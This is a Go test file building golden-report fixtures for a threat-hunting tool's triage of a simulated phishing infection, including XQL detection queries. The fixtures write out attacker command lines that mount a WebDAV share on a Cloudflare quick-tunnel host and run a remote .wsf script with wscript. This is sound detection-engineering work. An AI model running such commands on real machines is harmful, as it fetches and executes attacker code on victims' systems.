package report

import (
	"flag"
	"os"
	"path/filepath"
	"testing"
	"time"
)

// update rewrites the golden files: go test ./report -update.
var update = flag.Bool("update", false, "rewrite report/testdata/*.golden.* from the current output")

// checkGolden compares got with testdata/name, or rewrites the file under -update.
func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden (run go test ./report -update to create it): %v", err)
	}
	if string(got) != string(want) {
		out := filepath.Join(t.TempDir(), name)
		_ = os.WriteFile(out, got, 0o644)
		t.Errorf("output differs from %s; got written to %s (diff them; -update rewrites the golden)", path, out)
	}
}

func at(s string) time.Time {
	t, err := time.Parse("2006-01-02 15:04:05.000", s)
	if err != nil {
		panic(err)
	}
	return t.UTC()
}

const (
	sysmonLog = `WS-FIN-0231.zip!Logs/Microsoft-Windows-Sysmon%4Operational.evtx`
	tunnel    = `ledger-harbor-quietly-summit.trycloudflare.com`
	batCmd    = `C:\Windows\system32\cmd.exe /c ""C:\Users\a.novak\AppData\Local\Temp\7zO8A3C21F0\Invoice_0923.bat" "`
	netCmd    = `net  use \\` + tunnel + `@SSL\DavWWWRoot`
	net1Cmd   = `C:\Windows\system32\net1  use \\` + tunnel + `@SSL\DavWWWRoot`
	user      = `CORP\a.novak`
)

// seedQuery is the XQL of the seed hunt
// (shared/docs/seed-hunt-batch-from-archive-webdav.md), verbatim.
const seedQuery = `// Title: Suspicious Temp/Downloads Batch or CMD WebDAV/Cloudflare Usage
// Description: Detects cmd.exe or batch file execution from Temp or Downloads directories with command lines referencing WebDAV, Cloudflare, or network share mounting, and with parent process of explorer.exe, winrar.exe, or 7z.exe.
// MITRE ATT&CK TTP ID: T1105

config case_sensitive = false 
| dataset = xdr_data 
| filter event_type = ENUM.PROCESS 
    and event_sub_type = ENUM.PROCESS_START 
    and agent_os_type = ENUM.AGENT_OS_WINDOWS
    and (
        action_process_image_name = "cmd.exe"
        or action_process_image_name contains ".bat"
    )
    and (
        action_process_image_path contains "/temp/"
        or action_process_image_path contains "/appdata/local/temp/"
        or action_process_image_path contains "/downloads/"
    )
    and (
        action_process_image_command_line contains "webdav"
        or action_process_image_command_line contains "cloudflare"
        or action_process_image_command_line contains "trycloudflare.com"
        or action_process_image_command_line contains "net use"
    )
    and (
        causality_actor_process_image_name = "explorer.exe"
        or causality_actor_process_image_name = "winrar.exe"
        or causality_actor_process_image_name = "7z.exe"
    )
| fields _time, agent_hostname, actor_effective_username, action_process_image_name, action_process_image_path, action_process_image_command_line, causality_actor_process_image_name, causality_actor_process_command_line, event_id, agent_id, _product
| sort desc _time 
`

// The processes of scenario B-7zip (shared/docs/scenarios.md §3 B with the
// 7zFM path swapped in): explorer → 7zFM.exe → cmd.exe running the .bat →
// net.exe (→ net1.exe) and wscript.exe. explorer.exe started before the log
// begins, so it is known only from 7zFM's parent fields (synthetic).
func explorerNode() *TreeNode {
	return &TreeNode{Name: "explorer.exe", Image: `C:\Windows\explorer.exe`, PID: 4120, Synthetic: true, CausalityRoot: true}
}

func sevenZipNode() *TreeNode {
	return &TreeNode{Name: "7zFM.exe", Image: `C:\Program Files\7-Zip\7zFM.exe`,
		CommandLine: `"C:\Program Files\7-Zip\7zFM.exe" "C:\Users\a.novak\Downloads\Invoice_0923.zip"`,
		User:        user, PID: 6312, Start: at("2025-06-30 09:13:58.447"), Source: sysmonLog + " record 48211"}
}

func cmdNode() *TreeNode {
	return &TreeNode{Name: "cmd.exe", Image: `C:\Windows\System32\cmd.exe`, CommandLine: batCmd,
		User: user, PID: 7044, Start: at("2025-06-30 09:14:05.318"), Source: sysmonLog + " record 48230"}
}

func netNode() *TreeNode {
	return &TreeNode{Name: "net.exe", Image: `C:\Windows\System32\net.exe`, CommandLine: netCmd,
		User: user, PID: 7180, Start: at("2025-06-30 09:14:05.402"), Source: sysmonLog + " record 48233"}
}

func net1Node() *TreeNode {
	return &TreeNode{Name: "net1.exe", Image: `C:\Windows\System32\net1.exe`, CommandLine: net1Cmd,
		User: user, PID: 2716, Start: at("2025-06-30 09:14:05.431"), Source: sysmonLog + " record 48235"}
}

func wscriptNode() *TreeNode {
	return &TreeNode{Name: "wscript.exe", Image: `C:\Windows\System32\wscript.exe`,
		CommandLine: `wscript.exe //B //Nologo "\\` + tunnel + `@SSL\DavWWWRoot\at\croj.wsf"`,
		User:        user, PID: 5532, Start: at("2025-06-30 09:14:09.877"), Source: sysmonLog + " record 48251"}
}

// chain links nodes parent → child and returns the first.
func chain(nodes ...*TreeNode) *TreeNode {
	for i := 1; i < len(nodes); i++ {
		nodes[i-1].Children = append(nodes[i-1].Children, nodes[i])
	}
	return nodes[0]
}

var netUseColumns = []string{"_time", "agent_hostname", "action_process_username", "action_process_image_name",
	"action_process_image_command_line", "actor_process_image_name", "causality_actor_process_image_name"}

func netUseValues(tm, proc, cmdline, parent string) map[string]string {
	return map[string]string{"_time": tm, "agent_hostname": "WS-FIN-0231", "action_process_username": user,
		"action_process_image_name": proc, "action_process_image_command_line": cmdline,
		"actor_process_image_name": parent, "causality_actor_process_image_name": "explorer.exe"}
}

// scenarioB7zip builds, by hand, the report a run over scenario B-7zip
// should produce: one hunt with two matches (net.exe and its net1.exe), one
// with a match that needed '/' ≡ '\' path folding, the seed hunt with no
// match, and a hunt skipped for its query language.
func scenarioB7zip() *Report {
	netMatchNode := netNode()
	netMatchNode.IsMatch = true
	net1MatchNode := net1Node()
	net1MatchNode.IsMatch = true
	cmdMatchNode := cmdNode()
	cmdMatchNode.IsMatch = true
	cmdMatchNode.Children = []*TreeNode{netNode(), wscriptNode()}

	return &Report{
		Title:     "WS-FIN-0231 triage (scenario B-7zip)",
		Generated: at("2026-12-04 19:30:00.000"),
		Version:   "0.1.0-dev",
		Evidence: Evidence{
			Files: 3, Hosts: []string{"WS-FIN-0231"},
			First: at("2025-06-30 08:02:37.112"), Last: at("2025-06-30 09:41:12.905"),
			Records: 18344, Processes: 1207,
		},
		Health: Health{
			Files: []FileHealth{
				{Path: sysmonLog, Status: FileOK, Records: 15902},
				{Path: `WS-FIN-0231.zip!Logs/Security.evtx`, Status: FilePartial, Records: 2442,
					Reason: "chunk 12: data checksum mismatch; 3 records unreadable, 2 recovered from slack"},
				{Path: `WS-FIN-0231.zip!Logs/Security (1).evtx`, Status: FileSkipped,
					Reason: "identical to WS-FIN-0231.zip!Logs/Security.evtx (same SHA-256)"},
			},
			RecordsFailed: map[string]int64{"bad checksum": 3},
			Recovered:     2, BadChunks: 1, Duplicates: 412,
		},
		Lint: []LintFinding{{Hunt: "hunts/draft-rundll32.md", Severity: "error", Code: "no-query", Msg: "no XQL code block found"}},
		Hunts: []HuntResult{
			{
				ID:          "HuntQuery-Windows-WebDAV-NetUse-Tunnel",
				Title:       "net use mounting a WebDAV share on a trycloudflare.com quick tunnel",
				Severity:    "High",
				RiskScore:   75,
				Description: "Finds net.exe / net1.exe mapping a WebDAV share (@SSL\\DavWWWRoot) hosted on a Cloudflare quick tunnel.\nBenign WebDAV mappings use company or SharePoint hosts, not trycloudflare.com.",
				Attack: []Technique{
					{Tactic: "TA0008 - Lateral Movement", ID: "T1021.002", Name: "Remote Services: SMB/Windows Admin Shares"},
					{Tactic: "TA0011 - Command and Control", ID: "T1105", Name: "Ingress Tool Transfer"},
				},
				FalsePositives:  []string{"A developer mapping their own quick tunnel on purpose (no script runs from it afterwards)."},
				ResponseActions: []string{"Identify the script or user action that ran net use.", "Block the tunnel host and isolate the endpoint if a payload followed."},
				Query: "dataset = xdr_data\n| filter event_type = ENUM.PROCESS and event_sub_type = ENUM.PROCESS_START\n" +
					"    and action_process_image_name in (\"net.exe\", \"net1.exe\")\n" +
					"    and action_process_image_command_line contains \"@SSL\\DavWWWRoot\"\n" +
					"    and action_process_image_command_line contains \"trycloudflare.com\"\n" +
					"| fields _time, agent_hostname, action_process_username, action_process_image_name, action_process_image_command_line, actor_process_image_name, causality_actor_process_image_name",
				Columns: netUseColumns,
				Matches: []Match{
					{
						Time: at("2025-06-30 09:14:05.402"), Host: "WS-FIN-0231", User: user, Process: "net.exe",
						CommandLine: netCmd, Parent: "cmd.exe", CausalityActor: "explorer.exe",
						Values: netUseValues("2025-06-30T09:14:05.402Z", "net.exe", netCmd, "cmd.exe"),
						Source: sysmonLog + " record 48233",
						Tree:   chain(explorerNode(), sevenZipNode(), cmdNode(), netMatchNode, net1Node()),
					},
					{
						Time: at("2025-06-30 09:14:05.431"), Host: "WS-FIN-0231", User: user, Process: "net1.exe",
						CommandLine: net1Cmd, Parent: "net.exe", CausalityActor: "explorer.exe",
						Values: netUseValues("2025-06-30T09:14:05.431Z", "net1.exe", net1Cmd, "net.exe"),
						Source: sysmonLog + " record 48235",
						Tree:   chain(explorerNode(), sevenZipNode(), cmdNode(), netNode(), net1MatchNode),
					},
				},
			},
			{
				ID:          "HuntQuery-Windows-BatchFromArchiveTemp",
				Title:       "Batch file run from an archive-extraction temp folder",
				Severity:    "Medium",
				RiskScore:   60,
				Description: "cmd.exe running a .bat that 7-Zip, WinRAR or the built-in ZIP folder extracted to %TEMP%.",
				Attack:      []Technique{{Tactic: "TA0002 - Execution", ID: "T1204.002", Name: "User Execution: Malicious File"}},
				Query:       "dataset = xdr_data\n| filter action_process_image_name = \"cmd.exe\" and action_process_image_command_line contains \"/temp/7zo\"\n| fields _time, agent_hostname, action_process_image_command_line",
				Lint: []LintFinding{{Hunt: "HuntQuery-Windows-BatchFromArchiveTemp", Pos: "2:95", Severity: "warning", Code: "path-sep",
					Msg: `"/temp/7zo" uses '/' but Windows paths use '\'; compared with separators folded`}},
				Columns: []string{"_time", "agent_hostname", "action_process_image_command_line"},
				Matches: []Match{{
					Time: at("2025-06-30 09:14:05.318"), Host: "WS-FIN-0231", User: user, Process: "cmd.exe",
					CommandLine: batCmd, Parent: "7zFM.exe", CausalityActor: "explorer.exe",
					Values:      map[string]string{"_time": "2025-06-30T09:14:05.318Z", "agent_hostname": "WS-FIN-0231", "action_process_image_command_line": batCmd},
					PathSepOnly: true,
					Source:      sysmonLog + " record 48230",
					Tree:        chain(explorerNode(), sevenZipNode(), cmdMatchNode),
				}},
			},
			{
				ID:          "HuntQuery-Windows-BatchFromArchive-WebDAV",
				Title:       "Detection of Batch Files Executed from ZIP Archives with WebDAV Activity",
				Severity:    "High",
				RiskScore:   80,
				Description: "This hunt detects the execution of batch (`.bat`) files from temporary or ZIP extraction directories that contain WebDAV-related commands.",
				Attack: []Technique{
					{Tactic: "TA0002 - Execution", ID: "T1204.002", Name: "User Execution: Malicious File"},
					{Tactic: "TA0002 - Execution", ID: "T1059.003", Name: "Command and Scripting Interpreter: Windows Command Shell"},
					{Tactic: "TA0011 - Command and Control", ID: "T1105", Name: "Ingress Tool Transfer"},
					{Tactic: "TA0008 - Lateral Movement", ID: "T1021.002", Name: "Remote Services: SMB/Windows Admin Shares"},
				},
				FalsePositives: []string{
					"Users legitimately extract and run batch files for internal automation or IT support.",
					"Automated tools or scripts generate and execute batch files for benign purposes.",
				},
				ResponseActions: []string{
					"Investigate the source and intent of the batch file and associated archive.",
					"Analyze the command line for WebDAV or Cloudflare Tunnel references.",
					"Review user activity and email/download logs for signs of phishing or social engineering.",
					"Isolate affected endpoints if malicious activity is confirmed.",
					"Block or monitor access to suspicious WebDAV shares and Cloudflare Tunnel domains.",
				},
				Query: seedQuery,
				Lint: []LintFinding{{Hunt: "HuntQuery-Windows-BatchFromArchive-WebDAV", Pos: "15:44", Severity: "warning", Code: "path-sep",
					Msg: `"/temp/" uses '/' but Windows paths use '\'; compared with separators folded`}},
				Columns: []string{"_time", "agent_hostname", "actor_effective_username", "action_process_image_name", "action_process_image_path",
					"action_process_image_command_line", "causality_actor_process_image_name", "causality_actor_process_command_line", "event_id", "agent_id", "_product"},
			},
			{
				ID:        "HuntQuery-Windows-DavSetCookie-Tunnel-KQL",
				Title:     "rundll32 davclnt.dll,DavSetCookie to a quick-tunnel host",
				Severity:  "High",
				RiskScore: 70,
				Skipped:   "query language KQL not supported (only XQL runs offline)",
			},
		},
	}
}
